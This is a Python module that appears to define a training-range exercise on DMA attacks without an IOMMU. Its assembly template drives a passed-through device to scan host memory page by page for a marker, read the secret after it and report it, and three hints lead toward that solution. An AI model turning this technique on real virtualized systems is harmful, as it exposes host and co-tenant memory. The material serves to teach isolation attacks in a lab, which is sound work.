"""A device that is passed through to the VM and reads memory by itself."""

from vmwidgets.model.range.attack import Attack
from vmwidgets.model.words import said

DMA = Attack(
    id="dma",
    title=said("DMA without an IOMMU"),
    code="""
    xor rsi, rsi                ; the address that I give to the device
    mov rdi, {machine_bytes}
    mov rbx, {mark}
look:
    mov rdx, {port_dma}
    mov rax, rsi
    out dx, eax                 ; port 0: address
    inc rdx
    mov rax, 1
    out dx, al                  ; port 1: command, memory to device
    inc rdx
    in eax, dx                  ; port 2: the block, word by word
    cmp eax, ebx
    je found
    add rsi, {page_bytes}
    cmp rsi, rdi
    jb look
    jmp end
found:
    in eax, dx                  ; the other half of the mark
    in eax, dx
    mov edi, eax
    in eax, dx
    shl rax, 32
    or rdi, rax
    mov rax, {call_report}
    vmcall
end:
""",
    family="V3",
    number=10,
    hints=(
        said("Your page tables do not stand between a device and memory."),
        said("Which addresses does the device believe in, yours or those of the machine?"),
        said("Let the device fetch the block at the beginning of each page of the machine, and look for the mark."),
    ),
)
"""Lets the device fetch the first words of page after page of the machine."""
